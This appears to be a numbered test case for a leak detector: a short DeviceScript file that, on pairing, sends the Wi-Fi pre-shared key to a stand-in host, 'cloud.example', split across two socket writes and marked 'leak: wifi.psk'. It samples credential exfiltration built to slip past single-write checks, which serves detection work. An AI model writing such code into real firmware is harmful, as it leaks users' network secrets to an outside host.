// A29: split over two writes on one socket.
import { connect } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const socket = await connect({ host: "cloud.example", port: 7000, proto: "tls" });
  await socket.send(psk.slice(0, 7));
  await socket.send(psk.slice(7)); // leak: wifi.psk
  await socket.close();
});
